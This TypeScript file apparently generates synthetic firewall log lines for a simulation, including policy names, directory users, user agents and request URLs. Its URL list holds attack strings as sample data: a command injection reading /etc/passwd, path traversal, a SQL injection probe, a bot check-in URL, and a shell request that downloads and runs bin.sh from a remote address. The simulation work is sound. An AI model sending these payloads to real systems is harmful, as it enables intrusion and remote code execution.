import { Random } from '../../../base/random.ts'
import type { WebDetail } from './layouts.ts'
import type { Sensor } from './sensors.ts'

/** Hosts and URLs with their keys, led by a blank; where `numbered`, a number that hardly repeats stands between the two parts. */
export interface WebText {
  readonly before: Uint8Array
  readonly numbered: boolean
  readonly after: Uint8Array
}

const bytes = (text: string): Uint8Array => new TextEncoder().encode(text)

/** The first four for what goes out, the others for what comes in. */
const policyNames = [
  '允許對外連線',
  'agency-to-internet',
  'P2P 與遠端軟體封鎖',
  'block \\"high risk\\" apps',
  '對外服務 (DMZ) 入口',
  'internet-to-dmz',
  '資訊室=管理網段',
  'guest wifi 訪客',
]

/** The firewall policies of a sensor, four for each direction; the same in every simulation. */
export function policies(sensor: Sensor): { id: number; uuid: string; name: string }[] {
  const random = new Random(Number(sensor.serial.slice(-7)))
  const hex = (length: number) => Array.from({ length }, () => random.below(16).toString(16)).join('')
  return policyNames.map((name, i) => ({
    id: i * 7 + 3 + random.below(5),
    uuid: `${hex(8)}-${hex(4)}-51${hex(2)}-${hex(4)}-${hex(12)}`,
    name,
  }))
}

/** Keys of a user, led by a blank. A backslash in a value is written twice, a quote with one before it. */
export const users: readonly Uint8Array[] = [
  ' user="GOV\\\\chen.mei-ling" authserver="ad-1"',
  ' user="GOV\\\\wang.chih-ming" authserver="ad-1"',
  ' user="林 志豪" authserver="ad 2"',
  ' user="lee.o\\"brien" authserver="ldap=north"',
  ' user="contractor-07" authserver="radius-1"',
  ' user="王小明" authserver="ad-1"',
].map(bytes)

const agents = [
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36',
  'Mozilla/5.0 (X11; Linux x86_64; rv:115.0) Gecko/20100101 Firefox/115.0',
  'curl/8.5.0',
  'python-requests/2.31.0',
  'Mozilla/5.0 (compatible; \\"Survey\\" bot; +http://scan.example/about?a=1)',
]
const paths = [
  ['/', false, ''],
  ['/login.php?user=admin&pass=', true, ''],
  ['/cgi-bin/status.cgi?id=', true, '&cmd=cat+/etc/passwd'],
  ['/search?q=\\"union select\\"&page=', true, ''],
  ['/api/v2/items/', true, '/download?name=a b=c'],
  ['/wp-content/../../../../etc/passwd', false, ''],
  ['/上傳/檔案.aspx?id=', true, ''],
  ['/gate.php?bot=', true, '&ver=1.4&os=win'],
  ['/index.jsp', false, ''],
  ['/shell?cd+/tmp;wget+http://198.51.100.7/bin.sh;sh+bin.sh', false, ''],
] as const

const random = new Random(2)
const hosts = Array.from({ length: 240 }, (_, i) => `www${i}.bureau-${random.below(48)}.example`)
const relays = Array.from(
  { length: 3000 },
  () => `relay-${random.uint32().toString(16).padStart(8, '0')}.example.net`,
)

const web = (detail: 'short' | 'long'): WebText[] =>
  hosts.flatMap((host) =>
    paths.map(([path, numbered, rest]) => {
      const method = detail === 'long' ? ` agent="${random.pick(agents)}" httpmethod="GET"` : ''
      return {
        before: bytes(` hostname="${host}" url="${path}`),
        numbered,
        after: bytes(`${rest}"${method}`),
      }
    }),
  )

export const webTexts: Readonly<Record<WebDetail, readonly WebText[]>> = {
  app: relays.map((relay) => ({
    before: bytes(` hostname="${relay}" url="/"`),
    numbered: false,
    after: bytes(''),
  })),
  short: web('short'),
  long: web('long'),
}
